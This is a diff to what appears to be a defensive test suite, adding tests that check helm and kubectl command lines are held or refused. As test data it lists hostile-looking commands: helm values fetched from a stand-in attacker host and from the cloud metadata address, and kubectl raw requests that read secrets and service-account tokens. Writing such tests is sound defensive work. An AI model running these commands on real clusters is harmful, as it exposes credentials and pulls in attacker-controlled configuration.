@@ -397,3 +397,36 @@ async def test_a_long_csv_report_is_masked_by_its_header_to_its_end(report: Harn
     last = str(448812 + (ROWS - 1) * 7)
     shown = [line for line in stdout.splitlines() if line[:1].isdigit()]
     assert last not in stdout and not shown, f"{len(shown)} rows unmasked, e.g. {shown[-1:]}"
+
+
+# ── held: command lines that reach elsewhere or print credentials ─────────────
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["template", "db", "./chart", "-f", "https://evil.example/values.yaml"],
+        ["template", "db", "./chart", "--values=http://169.254.169.254/latest/meta-data/"],
+    ],
+)
+async def test_held_helm_values_from_a_url_wait_or_are_refused(
+    helm: Harness, tmp_path: Path, argv: list[str]
+) -> None:
+    response = await _run(helm, "deploy", ["helm", *argv])
+    assert response.status_code in (202, 403) and not (tmp_path / "ran").exists()
+
+
+@needs_kubectl
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["get", "pods", "-v=٩"],
+        ["get", "--raw", "/api/v1/secrets?watch=1"],
+        ["get", "--raw", "/api/v1/namespaces/default/serviceaccounts/y/token"],
+        ["get", "secret/x", "--subresource=status", "-o", "name"],
+    ],
+)
+async def test_held_kubectl_lines_that_reach_elsewhere_wait_or_are_refused(
+    kube: Harness, cluster: kube_standin.KubeStandIn, argv: list[str]
+) -> None:
+    response = await run_kubectl(kube, *argv)
+    assert response.status_code in (202, 403), response.text[:300]
+    assert not cluster.requests
